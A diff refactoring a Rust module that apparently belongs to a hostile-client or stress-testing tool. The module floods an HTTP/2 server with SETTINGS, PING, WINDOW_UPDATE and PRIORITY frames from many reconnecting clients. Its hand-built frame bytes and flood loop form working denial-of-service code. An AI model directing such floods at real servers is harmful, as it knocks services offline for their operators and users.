@@ -1,4 +1,4 @@
-//! Floods of small HTTP/2 frames that ask nothing and make work. What the server answers is read and dropped.
+//! Floods of small HTTP/2 frames that request nothing but cost work. The server's answers are read and dropped.
 
 use std::sync::Arc;
 use std::sync::atomic::Ordering;
@@ -8,24 +8,23 @@ use anyhow::Result;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::task::JoinSet;
 
-use super::{Open, Scene, count};
-use crate::cli::hostile::Attack;
+use super::Attack;
+use super::{AttackState, OpenConnection, count};
 
-/// The preface, and SETTINGS without a setting.
+/// The preface, and SETTINGS without any setting.
 const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
 const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0attacker";
 const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
-/// Of the connection, by one byte: the window does not overflow within any run.
+/// For the connection, by one byte: the window does not overflow in any run.
 const WINDOW_UPDATE: &[u8] = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01";
-/// Of a stream that is not open.
+/// For a stream that is not open.
 const PRIORITY: &[u8] = b"\0\0\x05\x02\0\0\0\0\x03\0\0\0\0\x10";
-/// How often a client sends what is due.
+/// How often a client sends the frames that are due.
 const SEND_EVERY: Duration = Duration::from_millis(10);
-/// A client that was closed comes back after this time.
+/// A client waits for this time before it reconnects.
 const BACK_AFTER: Duration = Duration::from_millis(200);
 
-/// Begins.
-pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
+pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
     for _ in 0..scene.flags.clients {
         let scene = scene.clone();
         clients.spawn(async move {
@@ -40,8 +39,8 @@ pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
     }
 }
 
-/// One connection, until the server ends it.
-async fn flood(scene: &Scene, is_first: &mut bool) -> Result<()> {
+/// One connection, until the server closes it.
+async fn flood(scene: &AttackState, is_first: &mut bool) -> Result<()> {
     let frame = match scene.flags.attack {
         Attack::Settings => SETTINGS,
         Attack::WindowUpdates => WINDOW_UPDATE,
@@ -54,9 +53,9 @@ async fn flood(scene: &Scene, is_first: &mut bool) -> Result<()> {
     let stream = scene.target.connect_from(scene.flags.source, "h2").await?;
     let (mut reader, mut writer) = tokio::io::split(stream);
     writer.write_all(OPENING).await?;
-    let _open = Open::of(scene);
+    let _open = OpenConnection::of(scene);
     if std::mem::take(is_first) {
-        count(&scene.counts.begun);
+        count(&scene.counts.started);
     }
     let sending = async {
         let mut tick = tokio::time::interval(SEND_EVERY);
